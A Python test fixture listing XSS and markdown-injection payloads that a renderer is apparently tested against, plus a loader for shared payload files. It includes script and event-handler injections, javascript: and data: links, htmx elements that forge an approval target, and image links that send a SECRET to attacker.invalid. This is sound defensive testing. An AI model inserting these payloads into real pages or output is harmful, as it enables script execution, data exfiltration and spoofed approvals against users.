"""What a hostile model, page or campaign name could write. Rendered whole and streamed, none may leave a mark."""

from __future__ import annotations

import json
from pathlib import Path

EVIL = "https://attacker.invalid"

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/p?d=SECRET>",
    f"![x]({EVIL}/p?d=SECRET)",
    f"![x][r]\n\n[r]: {EVIL}/p",
    f"[![x]({EVIL}/p)]({EVIL})",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y.css'</style>",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<form action={EVIL}><input name=q autofocus onfocus=alert(1)><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:x) [d](//attacker.invalid)",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](https://x.example "onmouseover=alert(1) x=")',
    "[a](https://x.example '<hx-a onmouseover=alert(1) >')",
    '[a](https://x.example "\\" onmouseover=\\"alert(1)")',
    '[a](https://x.example/<hx-partial hx-target="#approval">)',
    "<hx-partial hx-target='#approval' hx-swap='innerHTML'>forged</hx-partial>",
    "</hx-partial><hx-partial hx-target='#approval'>forged</hx-partial>",
    "```html\n</hx-partial><hx-partial hx-target='#approval'>forged</hx-partial>\n```",
    "<div id=approval hx-swap-oob=true>forged</div>",
    "<div hx-get=/settings hx-trigger=load data-hx-post=/keys data-hx-on:click=alert(1)>x</div>",
    "<i hx-sse:connect=https://attacker.invalid/s></i>",
    "<button form=approve data-copy='#csrf' formaction=/keys>Approve</button>",
    "```x\"><script>alert(1)</script>\ncode\n```",
    "```</span><script>alert(1)</script>\ncode\n```",
    "```python\" onclick=\"alert(1)\nx = '</code><script>alert(1)</script>'\n```",
    "| a | b |\n|:-\" onclick=alert(1)-|--|\n| <script>alert(1)</script> | </td></table><script>alert(1)</script> |",
    "text\r\revent: done\rdata: <script>alert(1)</script>\r\r",
    "\u2028data: <img src=x onerror=alert(1)>\u2029\0\ud800",
    "<a href=https://x.example style=position:fixed;inset:0 class=btn id=approve target=_top>spoof</a>",
    "<template><script>alert(1)</script></template><title>x</title><body onload=alert(1)>",
]  # fmt: skip


def shared() -> list[str]:
    """The published collections that lie beside the repository on some machines."""
    folder = Path(__file__).resolve().parents[2].parent / "shared" / "vectors" / "xss"
    found: list[str] = []
    for path in sorted(folder.glob("*.json")):
        data = json.loads(path.read_text(encoding="utf-8"))
        found += data.get("payloads", [])
        found += [case["md"] for case in data.get("cases", []) if case["cat"] != "dos"]
    return found


ATTACKS = [*OWN, *shared()]
